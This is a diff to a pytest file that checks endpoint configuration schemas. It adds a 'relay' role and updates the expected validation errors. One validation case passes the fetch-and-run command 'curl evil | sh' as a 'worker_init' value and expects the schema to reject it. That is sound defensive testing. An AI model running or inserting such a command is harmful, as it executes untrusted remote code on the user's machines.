@@ -27,10 +27,13 @@ def options(profile, *more):
 
 
 @pytest.mark.parametrize("profile", PROFILES)
-def test_every_profile_gives_an_endpoint_with_both_roles(profile, deploy, agent):
-    serve, control = agent(deploy(*options(profile)), {"role": "serve"}, {"role": "control"})
+def test_every_profile_gives_an_endpoint_with_all_roles(profile, deploy, agent):
+    roles = [{"role": role} for role in ("serve", "control", "relay")]
+    serve, control, relay = agent(deploy(*options(profile)), *roles)
     assert serve["core"] == "CoreEndpointConfig"
-    assert (serve["engine"], control["engine"]) == ("GlobusComputeEngine", "ThreadPoolEngine")
+    assert serve["engine"] == "GlobusComputeEngine"
+    assert control["engine"] == relay["engine"] == "ThreadPoolEngine"
+    assert (control["threads"], relay["threads"]) == (4, 128)
     assert serve["provider"] == ENGINE[PROFILES[profile]]
     assert serve["workers"] == 1
     assert serve["blocks"][:2] == [0, 0]
@@ -146,7 +149,7 @@ def test_the_job_script_asks_the_scheduler_for_what_the_user_chose(
     ("wish", "words"),
     [
         ({}, "'role' is a required property"),
-        ({"role": "admin"}, "'admin' is not one of ['serve', 'control']"),
+        ({"role": "admin"}, "'admin' is not one of ['serve', 'control', 'relay']"),
         ({"role": "serve", "walltime": 361}, "361 is greater than the maximum of 360"),
         ({"role": "serve", "walltime": "06:00:00"}, "is not of type 'integer'"),
         ({"role": "serve", "nodes": 3}, "3 is greater than the maximum of 2"),
@@ -154,6 +157,7 @@ def test_the_job_script_asks_the_scheduler_for_what_the_user_chose(
         ({"role": "serve", "account": "c"}, "'c' is not one of ['a', 'b']"),
         ({"role": "serve", "worker_init": "curl evil | sh"}, "'worker_init' was unexpected"),
         ({"role": "control", "nodes": 2}, "has too many properties"),
+        ({"role": "relay", "nodes": 2}, "has too many properties"),
         ({"role": "serve", "_GC": {}}, "reserved word"),
     ],
 )
